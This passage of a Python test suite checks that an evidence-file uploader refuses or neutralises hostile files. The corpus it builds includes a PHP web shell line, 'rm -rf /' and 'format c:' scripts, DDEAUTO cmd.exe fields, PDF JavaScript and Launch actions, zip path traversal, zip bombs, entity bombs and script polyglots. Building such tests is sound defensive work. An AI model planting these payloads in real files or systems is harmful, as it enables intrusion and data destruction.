"""Evidence files (reliability G15): a hostile corpus generated here, valid files of each type, and the store.

Every hostile file is built by this module (no binary fixtures): each must be refused with a Chinese sentence
that names the file, or be neutralised (accepted only after re-encoding, under a safe name). The store is
walked afterwards: nothing outside its root, only our random names, mode 0440, no user-supplied component.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import struct
import unicodedata
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import docx
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from tracker.files import evidence as ef
from tracker.files import store as es
from tracker.files.containers import zip_container_problem
from tracker.files.evidence import (
    ALLOWED_LABEL,
    MAX_EVIDENCE_BYTES,
    CheckedFile,
    EvidenceFileRejected,
    check_evidence_file,
    safe_display_name,
)
from tracker.files.store import STORED_EXTENSIONS, EvidenceStore

# Pillow warns about the garbage TIFFs of the corpus and the fuzzer before refusing them.
pytestmark = pytest.mark.filterwarnings("ignore::UserWarning:PIL.TiffImagePlugin")

CJK = re.compile(r"[\u4e00-\u9fff]")
INVISIBLE = re.compile("[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
STORED_NAME = re.compile(r"^[0-9a-f]{32}\.[a-z]{3,4}$")
EICAR_STRING = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# -- builders -------------------------------------------------------------------------------------------------


def pdf(*extra_objects: bytes, catalog_extra: bytes = b"", tail: bytes = b"%%EOF\n", head: bytes = b"%PDF-1.7\n") -> bytes:
    """A small well-formed PDF (one empty page); extra objects are numbered from 4."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *extra_objects,
    ]
    out = bytearray(head + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n" % (len(objects) + 1, xref) + tail
    return bytes(out)


def pdf_stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def object_stream(objects: dict[int, bytes], *, extra: bytes = b"", compress: bool = True) -> bytes:
    """An object stream (/Type /ObjStm) holding `objects`, deflated unless told otherwise."""
    header, body = b"", b""
    for number, text in objects.items():
        header += b"%d %d " % (number, len(body))
        body += text + b" "
    raw = header + body
    first = len(header)
    data = zlib.compress(raw) if compress else raw
    filt = b"/Filter /FlateDecode " if compress else b""
    return pdf_stream(b"/Type /ObjStm /N %d /First %d " % (len(objects), first) + filt + extra, data)


def image_bytes(fmt: str, size: tuple[int, int] = (32, 24), mode: str = "RGB", **save) -> bytes:
    image = Image.new(mode, size, (200, 30, 30) if mode in ("RGB", "RGBA") else 1)
    for x in range(size[0]):
        image.putpixel((x, x % size[1]), (0, 0, 255) if mode in ("RGB", "RGBA") else 0)
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def exif_block(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # Make
    exif[0x0131] = "GPS-leaking-software"  # Software
    exif[0x0112] = orientation
    return exif.tobytes()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header claiming huge dimensions, with a few bytes of image data: cheap to build and to refuse."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + png_chunk(b"IEND", b""))


CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
             '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
             "<w:p><w:r><w:t>进展</w:t></w:r></w:p></w:body></w:document>"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
             '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'),
    "pptx": ("ppt/presentation.xml",
             "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
             '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'),
}


def rels_xml(*rels: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    items = []
    for number, rel in enumerate(rels, start=1):
        kind, target = rel[0], rel[1]
        mode = f' TargetMode="{rel[2]}"' if len(rel) > 2 and rel[2] else ""
        items.append(f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/>')
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{REL_NS}">{"".join(items)}</Relationships>'


def ooxml(kind: str = "docx", *, parts: dict[str, bytes | str] | None = None, main_type: str | None = None,
          overrides: dict[str, str] | None = None, defaults: dict[str, str] | None = None,
          main_rels: list[tuple[str, ...]] | None = None, main_xml: str | None = None,
          content_types: str | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """An Office Open XML package built part by part, so that each hostile variant changes one thing."""
    main_name, default_type, default_xml = MAIN[kind]
    folder = main_name.split("/")[0]
    all_overrides = {"/" + main_name: main_type or default_type, **(overrides or {})}
    all_defaults = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml",
                    **(defaults or {})}
    ct = content_types or (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{CT_NS}">'
        + "".join(f'<Default Extension="{ext}" ContentType="{t}"/>' for ext, t in all_defaults.items())
        + "".join(f'<Override PartName="{name}" ContentType="{t}"/>' for name, t in all_overrides.items())
        + "</Types>")
    files: dict[str, bytes | str] = {
        "[Content_Types].xml": ct,
        "_rels/.rels": rels_xml((f"{OFFICE_REL}/officeDocument", main_name)),
        main_name: main_xml or default_xml,
        f"{folder}/_rels/{main_name.split('/')[1]}.rels": rels_xml(*(main_rels or [])),
        **(parts or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            if name not in drop:
                archive.writestr(name, content)
    return out.getvalue()


def patch_central(data: bytes, *, size: int | None = None, flags: int | None = None) -> bytes:
    """Rewrite every central-directory record's declared size or flags (what a crafted archive lies about)."""
    out = bytearray(data)
    pos = out.find(b"PK\x01\x02")
    while pos >= 0:
        if size is not None:
            out[pos + 24:pos + 28] = struct.pack("<I", size)
        if flags is not None:
            out[pos + 8:pos + 10] = struct.pack("<H", flags)
        pos = out.find(b"PK\x01\x02", pos + 4)
    return bytes(out)


def plain_zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return out.getvalue()


def zip_with_names(kind: str, names: list[str]) -> bytes:
    """A valid package with extra entries under raw (possibly hostile) names."""
    base = zipfile.ZipFile(io.BytesIO(ooxml(kind)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in base.infolist():
            archive.writestr(info.filename, base.read(info))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate we want
            for name in names:
                archive.writestr(zipfile.ZipInfo(name), b"x")
    return out.getvalue()


def stored_copy(data: bytes) -> bytes:
    """The same package with its parts stored uncompressed, so that a test can change their bytes in place."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
    return out.getvalue()


def docx_with_field(*runs: str) -> bytes:
    body = "".join(runs)
    return ooxml("docx", main_xml=(
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
        + body + "</w:p></w:body></w:document>"))


def field(*instructions: str) -> list[str]:
    return ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
            *(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instructions),
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>',
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>']


def real_docx() -> bytes:
    document = docx.Document()
    document.add_heading("季度进展报告", 1)
    document.add_paragraph("本季度完成发明专利申请 2 件。")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def real_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["指标", "完成值"])
    workbook.active.append(["发明专利申请", 2])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# -- the hostile corpus ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    data: bytes
    expect: str = ""  # a phrase the message must contain


def name_variants(name: str) -> list[tuple[str, str]]:
    """The same claimed extension under hostile spellings of the name."""
    stem, dot, ext = name.rpartition(".")
    ext = dot + ext if stem else ""
    stem = stem or name
    return [
        ("plain", name),
        ("rtl", f"发票\u202e{stem[::-1]}\u202c{ext}"),
        ("long", "很" * 300 + ext),
        ("traversal", f"../../{name}"),
        ("windows", f"C:\\Users\\张三\\Desktop\\{name}"),
    ]


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api').then(r=>r.text())</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.cookie)</script></svg>")
GOOD_JPEG = image_bytes("JPEG", quality=95)
GOOD_PNG = image_bytes("PNG")
GOOD_GIF = image_bytes("GIF")
DOCM_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PPTM_TYPE = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
ENTITY_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
               '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol2;</w:document>')


@cache
def bomb_parts() -> dict[str, bytes]:
    """Zip bombs built once: a ratio bomb, a size bomb with honest ratios, a part-count bomb."""
    zeros = b"\x00" * (8 * 1024 * 1024)
    ratio = ooxml("docx", parts={"word/media/bomb.bin": zeros})
    ratio_x = ooxml("xlsx", parts={"xl/worksheets/sheet1.xml": b"<a/>" * (2 * 1024 * 1024)})
    noisy = os.urandom(16 * 1024) + b"\x00" * (1024 * 1024)  # about 60x: under the ratio limit
    size = ooxml("xlsx", parts={f"xl/media/image{i}.bin": noisy for i in range(100)})
    count = ooxml("docx", parts={f"word/media/p{i}.xml": b"<a/>" for i in range(1001)})
    lying = patch_central(ooxml("docx"), size=400 * 1024 * 1024)
    return {"ratio": ratio, "ratio_x": ratio_x, "size": size, "count": count, "lying": lying}


def hostile_contents() -> list[Case]:
    """One entry per hostile content, with its natural name; name_variants() multiplies them."""
    rel_ole = f"{OFFICE_REL}/oleObject"
    bombs = bomb_parts()
    cases = [
        # empty, oversize
        Case("empty", "进展.pdf", b"", "文件为空"),
        Case("empty-png", "照片.png", b"", "文件为空"),
        Case("oversize", "扫描件.pdf", pdf() + b"%" + b"0" * MAX_EVIDENCE_BYTES, "文件超过20MB"),
        # web pages, SVG, scripts, executables under trusted names
        Case("html-as-pdf", "报告.pdf", HTML, "网页"),
        Case("html-ws-as-pdf", "报告.pdf", b"\r\n\t  <html><iframe src=//evil></iframe></html>", "网页"),
        Case("html-utf16", "报告.pdf", "\ufeff<html><script>x()</script></html>".encode("utf-16-le"), "网页"),
        Case("html-pdf-html", "a.pdf.html", HTML),
        Case("svg-as-png", "图.png", SVG, "SVG"),
        Case("svg", "图.svg", SVG, "SVG"),
        Case("svg-bare", "logo.png", b"<svg onload=alert(1)>", "SVG"),
        Case("js", "说明.pdf", b"alert(document.domain);//"),
        Case("php", "photo.jpg", b"<?php system($_GET['c']); ?>"),
        Case("shell", "run.docx", b"#!/bin/sh\nrm -rf /\n", "脚本"),
        Case("bat", "证明.pdf", b"@echo off\r\nformat c:\r\n"),
        Case("exe", "证书.pdf", b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode", "可执行"),
        Case("elf", "证书.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 57, "可执行"),
        Case("wasm", "x.xlsx", b"\x00asm\x01\x00\x00\x00", "可执行"),
        # archives that are not Office files
        Case("zip", "材料.zip", plain_zip({"readme.txt": b"hello"}), "压缩包"),
        Case("zip-as-pdf", "材料.pdf", plain_zip({"a.pdf": pdf()}), "压缩包"),
        Case("zip-with-exe", "材料.docx", plain_zip({"setup.exe": b"MZ" + b"\x00" * 100}), "压缩包"),
        Case("zip-empty", "材料.docx", b"PK\x05\x06" + b"\x00" * 18, "压缩包"),
        Case("gzip", "材料.pdf", b"\x1f\x8b\x08\x00" + b"\x00" * 20, "压缩包"),
        Case("rar", "材料.pdf", b"Rar!\x1a\x07\x00" + b"\x00" * 20, "压缩包"),
        Case("7z", "材料.pdf", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 20, "压缩包"),
        Case("odt", "文档.docx", plain_zip({"mimetype": b"application/vnd.oasis.opendocument.text",
                                          "content.xml": b"<x/>"}), "OpenDocument"),
        # EICAR
        Case("eicar", "eicar.com", EICAR_STRING, "EICAR"),
        Case("eicar-as-pdf", "报告.pdf", EICAR_STRING + b"\r\n", "EICAR"),
        Case("eicar-in-pdf", "报告.pdf", pdf(b"<< /Comment (" + EICAR_STRING.replace(b"(", b"\\(").replace(b")", b"\\)")
                                                + b") >>"), "EICAR"),
        # RTF, legacy and encrypted Office, WPS
        Case("rtf", "报告.doc", b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}", "RTF"),
        Case("doc", "任务书.doc", OLE, "另存为"),
        Case("xls", "经费.xls", OLE, "另存为"),
        Case("ppt", "汇报.ppt", OLE, "另存为"),
        Case("wps", "报告.wps", OLE, "另存为"),
        Case("ole-as-docx", "报告.docx", OLE, "另存为"),
        # wrong magic
        Case("pdf-late-header", "报告.pdf", b"<html>" + b" " * 100 + pdf(), "PDF"),
        Case("pdf-no-header", "报告.pdf", pdf()[9:]),
        Case("pdf-bad-version", "报告.pdf", b"%PDF-x" + pdf()[6:], "PDF"),
        Case("png-bad-magic", "照片.png", b"\x89PNX" + GOOD_PNG[4:]),
        Case("jpeg-garbage", "照片.jpg", b"\xff\xd8\xff\xe0" + b"garbage" * 20, "图片"),
        Case("gif-js", "a.gif", b"GIF89a/*\x00\x00*/=1;alert(document.cookie);//", "图片"),
        Case("bmp-garbage", "a.bmp", b"BM" + b"\x00" * 12 + struct.pack("<I", 40) + b"\xff" * 30, "图片"),
        Case("tiff-garbage", "a.tif", b"II*\x00" + b"\xff" * 40, "图片"),
        Case("webp-garbage", "a.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 16, "图片"),
        Case("bigtiff", "a.tif", b"II+\x00" + b"\x00" * 40),
        # images: pixel bombs, truncation
        Case("png-huge", "大图.png", png_claiming(100_000, 100_000), "图片像素过多"),
        Case("png-over-limit", "大图.png", png_claiming(7_000, 7_000), "图片像素过多"),
        Case("png-wide", "大图.png", png_claiming(1_000_000, 50), "图片像素过多"),
        Case("jpeg-truncated", "照片.jpg", GOOD_JPEG[: len(GOOD_JPEG) // 2], "图片"),
        Case("jpeg-no-eoi", "照片.jpg", GOOD_JPEG[:-2], "图片"),
        Case("png-truncated", "照片.png", GOOD_PNG[: len(GOOD_PNG) // 2], "图片"),
        Case("png-no-iend", "照片.png", GOOD_PNG[:-12], "图片"),
        Case("gif-truncated", "动图.gif", GOOD_GIF[: len(GOOD_GIF) // 2], "图片"),
        # zip bombs and unsafe archives
        Case("bomb-ratio-docx", "报告.docx", bombs["ratio"], "压缩炸弹"),
        Case("bomb-ratio-xlsx", "表.xlsx", bombs["ratio_x"], "压缩炸弹"),
        Case("bomb-size", "表.xlsx", bombs["size"], "压缩炸弹"),
        Case("bomb-count", "报告.docx", bombs["count"], "压缩炸弹"),
        Case("bomb-lying-header", "报告.docx", bombs["lying"], "压缩炸弹"),
        Case("zip-dotdot", "报告.docx", zip_with_names("docx", ["word/../../evil.sh"]), "不安全的路径"),
        Case("zip-absolute", "报告.docx", zip_with_names("docx", ["/etc/cron.d/evil"]), "不安全的路径"),
        Case("zip-backslash", "表.xlsx", zip_with_names("xlsx", ["..\\..\\evil.bat"]), "不安全的路径"),
        Case("zip-drive", "表.xlsx", zip_with_names("xlsx", ["C:/Windows/evil.dll"]), "不安全的路径"),
        Case("zip-duplicate", "报告.docx", zip_with_names("docx", ["word/document.xml"]), "重复"),
        Case("zip-encrypted", "报告.docx", patch_central(ooxml("docx"), flags=0x1), "加密"),
        Case("docx-truncated", "报告.docx", real_docx()[:3000], "损坏"),
        Case("docx-crc", "报告.docx", stored_copy(ooxml("docx")).replace(b"<w:body>", b"<w:bodx>"), "无法读取"),
        Case("docx-no-content-types", "报告.docx", ooxml("docx", drop=("[Content_Types].xml",)), "不是 Office"),
        Case("docx-and-xlsx", "报告.docx", ooxml("docx", parts={"xl/workbook.xml": MAIN["xlsx"][2]}), "结构异常"),
        Case("dotx", "报告.docx", ooxml("docx", main_type=(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")), "模板"),
        # macros, OLE, ActiveX, external links, DDE, DTDs
        Case("docm", "报告.docx", ooxml("docx", main_type=DOCM_TYPE), "宏"),
        Case("docm-name", "报告.docm", ooxml("docx", main_type=DOCM_TYPE), "宏"),
        Case("xlsm", "表.xlsx", ooxml("xlsx", main_type=XLSM_TYPE), "宏"),
        Case("xlsm-name", "表.xlsm", ooxml("xlsx", main_type=XLSM_TYPE), "宏"),
        Case("pptm", "汇报.pptx", ooxml("pptx", main_type=PPTM_TYPE), "宏"),
        Case("vba-docx", "报告.docx", ooxml("docx", parts={"word/vbaProject.bin": OLE}), "宏"),
        Case("vba-xlsx", "表.xlsx", ooxml("xlsx", parts={"xl/vbaProject.bin": OLE}), "宏"),
        Case("vba-default-type", "报告.docx", ooxml("docx", defaults={"bin": "application/vnd.ms-office.vbaProject"}),
             "宏"),
        Case("xlm-macrosheet", "表.xlsx", ooxml("xlsx", parts={"xl/macrosheets/sheet1.xml": "<x/>"}), "宏"),
        Case("ole-part", "报告.docx", ooxml("docx", parts={"word/embeddings/oleObject1.bin": OLE}), "OLE"),
        Case("ole-type", "汇报.pptx", ooxml("pptx", defaults={
            "bin": "application/vnd.openxmlformats-officedocument.oleObject"}), "OLE"),
        Case("ole-rel", "报告.docx", ooxml("docx", main_rels=[(rel_ole, "embeddings/x.xlsx")]), "OLE"),
        Case("activex-part", "报告.docx", ooxml("docx", parts={"word/activeX/activeX1.xml": "<ax/>"}), "ActiveX"),
        Case("activex-rel", "表.xlsx", ooxml("xlsx", main_rels=[(f"{OFFICE_REL}/control", "activeX/a.xml")]),
             "ActiveX"),
        Case("embedded-exe", "报告.docx", ooxml("docx", parts={"word/embeddings/setup.exe": b"MZ"}), "嵌入"),
        Case("external-template", "报告.docx", ooxml("docx", main_rels=[
            (f"{OFFICE_REL}/attachedTemplate", "http://evil.example/t.dotm", "External")]), "外部"),
        Case("external-ole", "报告.docx", ooxml("docx", main_rels=[
            (f"{OFFICE_REL}/frame", "\\\\evil\\share\\x.rtf", "External")]), "外部"),
        Case("external-file-link", "汇报.pptx", ooxml("pptx", main_rels=[
            (f"{OFFICE_REL}/hyperlink", "file:///C:/Windows/System32/calc.exe", "External")]), "外部"),
        Case("external-workbook", "表.xlsx", ooxml("xlsx", parts={
            "xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "外部链接"),
        Case("external-link-type", "表.xlsx", ooxml("xlsx", overrides={"/xl/externalLinks/e.xml": (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")}), "外部链接"),
        Case("dde", "报告.docx", docx_with_field(*field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), "DDE"),
        Case("dde-split", "报告.docx", docx_with_field(*field(" DD", "E ", "excel x y")), "DDE"),
        Case("dde-simple", "报告.docx", docx_with_field('<w:fldSimple w:instr=" DDE cmd /c calc"/>'), "DDE"),
        Case("entity-bomb", "报告.docx", ooxml("docx", main_xml=ENTITY_BOMB), "DTD"),
        Case("entity-bomb-ct", "表.xlsx", ooxml("xlsx", content_types=(
            f'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa">]><Types xmlns="{CT_NS}"/>')), "DTD"),
        Case("dtd-in-rels", "汇报.pptx", ooxml("pptx", parts={
            "ppt/slides/_rels/slide1.xml.rels": '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil/x.dtd"><r/>'}),
            "DTD"),
        # PDFs that act, carry files or are damaged
        Case("pdf-javascript", "报告.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>",
                                              catalog_extra=b"/Names << /JavaScript 4 0 R >>"), "/JavaScript"),
        Case("pdf-js-only", "报告.pdf", pdf(b"<< /JS (app.alert(1)) >>"), "/JS"),
        Case("pdf-js-hex", "报告.pdf", pdf(b"<< /S /J#61vaScript /J#53 (x) >>"), "/JavaScript"),
        Case("pdf-js-all-hex", "报告.pdf", pdf(b"<< /#4A#53 (x) >>"), "/JS"),
        Case("pdf-launch", "报告.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "/Launch"),
        Case("pdf-launch-hex", "报告.pdf", pdf(b"<< /S /L#61unch /F (cmd.exe) >>"), "/Launch"),
        Case("pdf-openaction-dict", "报告.pdf", pdf(catalog_extra=b"/OpenAction << /S /URI /URI (http://x) >>"),
             "OpenAction"),
        Case("pdf-openaction-ref", "报告.pdf", pdf(b"<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>",
                                                  catalog_extra=b"/OpenAction 4 0 R"), "OpenAction"),
        Case("pdf-openaction-hex", "报告.pdf", pdf(catalog_extra=b"/Op#65nAction << /S /Named /N /Print >>"),
             "OpenAction"),
        Case("pdf-openaction-many", "报告.pdf", pdf(catalog_extra=b"/OpenAction [3 0 R /Fit] " * 40), "过多"),
        Case("pdf-openaction-dangling", "报告.pdf", pdf(catalog_extra=b"/OpenAction 99 0 R"), "OpenAction"),
        Case("pdf-embedded-file", "报告.pdf", pdf(pdf_stream(b"/Type /EmbeddedFile", b"MZ")), "/EmbeddedFile"),
        Case("pdf-embedded-files", "报告.pdf", pdf(catalog_extra=b"/Names << /EmbeddedFiles 4 0 R >>"),
             "/EmbeddedFiles"),
        Case("pdf-embedded-hex", "报告.pdf", pdf(b"<< /Type /Embedd#65dFile >>"), "/EmbeddedFile"),
        Case("pdf-richmedia", "报告.pdf", pdf(b"<< /Subtype /RichMedia >>"), "/RichMedia"),
        Case("pdf-richmedia-content", "报告.pdf", pdf(b"<< /RichMediaContent 5 0 R >>"), "/RichMedia"),
        Case("pdf-xfa", "报告.pdf", pdf(catalog_extra=b"/AcroForm << /XFA 4 0 R >>"), "/XFA"),
        Case("pdf-xfa-hex", "报告.pdf", pdf(catalog_extra=b"/AcroForm << /#58#46#41 4 0 R >>"), "/XFA"),
        Case("pdf-objstm-js", "报告.pdf", pdf(object_stream({5: b"<< /S /JavaScript /JS (x) >>"})), "/JavaScript"),
        Case("pdf-objstm-openaction", "报告.pdf", pdf(object_stream({5: b"<< /S /Named /N /Print >>"}),
                                                     catalog_extra=b"/OpenAction 5 0 R"), "OpenAction"),
        Case("pdf-objstm-hex-type", "报告.pdf", pdf(pdf_stream(
            b"/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"5 0 << /S /Launch >>"))),
            "/Launch"),
        Case("pdf-objstm-predictor", "报告.pdf", pdf(object_stream({5: b"<< >>"}, extra=b"/DecodeParms << >>")),
             "无法检查"),
        Case("pdf-objstm-lzw", "报告.pdf", pdf(pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode",
                                                         b"\x80\x0b")), "无法检查"),
        Case("pdf-objstm-bomb", "报告.pdf", pdf(pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                                                          zlib.compress(b" " * (120 * 1024 * 1024), 1))), "压缩炸弹"),
        Case("pdf-objstm-corrupt", "报告.pdf", pdf(pdf_stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                                                             b"not zlib at all")), "损坏"),
        Case("pdf-encrypted", "报告.pdf", pdf(tail=b"%%EOF\n").replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 4 0 R"),
             "加密"),
        Case("pdf-no-eof", "报告.pdf", pdf(tail=b""), "%%EOF"),
        Case("pdf-truncated", "报告.pdf", pdf()[:120], "%%EOF"),
        Case("pdf-eof-far", "报告.pdf", pdf() + b"\n" * 2000, "%%EOF"),
        Case("pdf-then-html", "报告.pdf", pdf() + HTML, "其他数据"),
        Case("pdf-then-zip", "报告.pdf", pdf() + plain_zip({"x.js": b"alert(1)"})),
        Case("pdf-zip-polyglot", "报告.pdf", pdf(tail=b"%%EOF\n") .replace(
            b"%%EOF\n", plain_zip({"x.js": b"a"})[:-2] + struct.pack("<H", 6) + b"%%EOF\n"), "压缩包"),
        # names that contradict the content
        Case("pdf-as-docx", "x.docx", pdf(), "文件扩展名与内容不符"),
        Case("pdf-as-png", "照片.png", pdf(), "文件扩展名与内容不符"),
        Case("pdf-as-xlsx", "表.xlsx", pdf(), "文件扩展名与内容不符"),
        Case("png-as-pdf", "报告.pdf", GOOD_PNG, "文件扩展名与内容不符"),
        Case("jpeg-as-docx", "报告.docx", GOOD_JPEG, "文件扩展名与内容不符"),
        Case("docx-as-pdf", "报告.pdf", real_docx(), "文件扩展名与内容不符"),
        Case("docx-as-xlsx", "表.xlsx", real_docx(), "文件扩展名与内容不符"),
        Case("xlsx-as-docx", "报告.docx", real_xlsx(), "文件扩展名与内容不符"),
        Case("xlsx-as-doc", "报告.doc", real_xlsx(), "文件扩展名与内容不符"),
        Case("pptx-as-png", "图.png", ooxml("pptx"), "文件扩展名与内容不符"),
    ]
    return cases


def _corpus() -> list[Case]:
    return [Case(f"{case.id}[{variant}]", name, case.data, case.expect)
            for case in hostile_contents() for variant, name in name_variants(case.name)]


HOSTILE = _corpus()


def visible_name(raw: str) -> str:
    base = re.split(r"[\\/]", raw)[-1]
    return "".join(ch for ch in base if unicodedata.category(ch) not in ("Cc", "Cf", "Cs"))


def test_the_corpus_is_big_enough_and_self_made():
    assert len(HOSTILE) >= 200
    assert len({case.id for case in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("case", HOSTILE, ids=lambda case: case.id)
def test_hostile_file_is_refused_with_a_chinese_message_naming_it(case: Case):
    with pytest.raises(EvidenceFileRejected) as caught:
        check_evidence_file(case.name, case.data)
    message = str(caught.value)
    assert CJK.search(message), message
    assert not INVISIBLE.search(message), "no control or bidi character reaches the page"
    assert message.startswith("“")
    shown = visible_name(case.name)
    assert shown[-10:] in message  # the file is named (long names are shortened in the middle)
    if case.expect:
        assert case.expect in message, message


# -- neutralised: accepted only after re-encoding, under a safe name ------------------------------------------


def _gif_js_polyglot() -> bytes:
    image = Image.new("P", (8, 8), 1)
    out = io.BytesIO()
    image.save(out, "GIF", comment=b"*/=1;alert(document.cookie);/*")
    return out.getvalue() + b"<script>alert(1)</script>"


def _png_with_payload() -> bytes:
    data = GOOD_PNG
    end = data.rfind(b"IEND") - 4
    text = png_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")
    return data[:end] + text + data[end:] + b"<html><script>alert(2)</script></html>"


def _jpeg_with_payload() -> bytes:
    return image_bytes("JPEG", exif=exif_block(), comment=b"<script>alert(1)</script>",
                       icc_profile=b"\x00" * 64 + b"<script>")


def _gifar() -> bytes:
    return GOOD_GIF + plain_zip({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "<script>x.js": b"alert(1)"})


NEUTRALISED = [
    Case("gif-js-polyglot", "动图.gif", _gif_js_polyglot()),
    Case("gif-js-polyglot-as-js", "payload.js", _gif_js_polyglot()),
    Case("gifar", "动图.gif", _gifar()),
    Case("png-text-and-tail", "图.png", _png_with_payload()),
    Case("png-as-svg-name", "图.svg", _png_with_payload()),
    Case("jpeg-com-exif-icc", "照片.jpg", _jpeg_with_payload()),
    Case("jpeg-as-html-name", "照片.html", _jpeg_with_payload()),
    Case("webp-as-jpg-name", "照片.jpg", image_bytes("WEBP")),
] + [
    Case(f"pdf-name-{variant}", name, pdf())
    for variant, name in [*name_variants("报告.pdf"), ("fake-ext", "a.pdf.html"), ("exe", "setup.exe"),
